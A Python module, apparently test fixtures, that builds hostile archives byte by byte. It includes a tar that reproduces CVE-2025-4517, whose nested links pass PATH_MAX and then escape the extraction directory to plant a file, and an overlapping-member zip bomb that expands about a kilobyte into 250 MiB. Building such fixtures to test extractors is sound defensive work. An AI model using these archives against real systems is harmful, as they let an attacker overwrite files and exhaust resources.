"""Archives that lead outside, swell or lie about themselves, made byte by byte where no library would make them."""

from __future__ import annotations

import io
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

Edit = Callable[[tarfile.TarInfo], None]


def tar_of(*members: tuple[str, bytes | None, dict[str, Any]], mode: str = "w:gz") -> bytes:
    """Return a tar archive; each member has a name, its content and fields of its header."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode=mode, format=tarfile.PAX_FORMAT) as file:  # type: ignore[call-overload]
        for name, content, fields in members:
            info = tarfile.TarInfo(name)
            for field, value in fields.items():
                setattr(info, field, value)
            info.size = len(content or b"")
            file.addfile(info, io.BytesIO(content) if content is not None else None)
    return packed.getvalue()


def link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tuple[str, None, dict[str, Any]]:
    return name, None, {"type": kind, "linkname": target}


def file(name: str, content: bytes = b"planted", **fields: Any) -> tuple[str, bytes, dict[str, Any]]:
    return name, content, fields


def directory(name: str) -> tuple[str, None, dict[str, Any]]:
    return name, None, {"type": tarfile.DIRTYPE}


def path_max_tar() -> bytes:
    """Return the case of CVE-2025-4517: links whose names grow past PATH_MAX, so that realpath() stops looking."""
    part, members = "d" * 247, list[Any]()
    path = ""
    for letter in "abcdefghijklmnop":
        members += [directory(path + part), link(path + letter, part)]
        path += part + "/"
    climbing = "/".join("abcdefghijklmnop")
    members.append(link(climbing + "/" + "l" * 254, "../" * 16))
    members.append(link("escape", climbing + "/" + "l" * 254 + "/../../.."))
    members += [link("flag", "escape/made.txt", tarfile.LNKTYPE), file("flag")]
    return tar_of(*members, file("fine.txt", b"fine"), mode="w")


def zip_of(*members: tuple[str, bytes], **fields: int) -> bytes:
    """Return a zip archive; fields are set on each member."""
    packed = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as made:
        warnings.simplefilter("ignore")  # two members of one name are meant here
        for name, content in members:
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            for field, value in fields.items():
                setattr(info, field, value)
            made.writestr(info, content)
    return packed.getvalue()


def overlapping_zip(names: int = 250, size: int = 1 << 20) -> bytes:
    """Return a zip whose members share one kernel of data: 250 MiB out of a kilobyte, and a directory."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    content = bytes(size)
    kernel = compressor.compress(content) + compressor.flush()
    crc = zlib.crc32(content)
    fields = struct.pack("<HHHHHLLL", 20, 0, 8, 0, 33, crc, len(kernel), size)
    body = b"PK\3\4" + fields + struct.pack("<HH", 5, 0) + b"00000" + kernel
    entries = b"".join(
        b"PK\1\2" + struct.pack("<H", 20) + fields + struct.pack("<HHHHHLL", 5, 0, 0, 0, 0, 0, 0)
        + f"{number:05}".encode()
        for number in range(names)
    )  # fmt: skip
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, names, names, len(entries), len(body), 0)
    return body + entries + end


def zip64_of(name: str, content: bytes) -> bytes:
    """Return a zip whose member has its sizes in a zip64 field."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as made, made.open(name, "w", force_zip64=True) as member:
        member.write(content)
    return packed.getvalue()
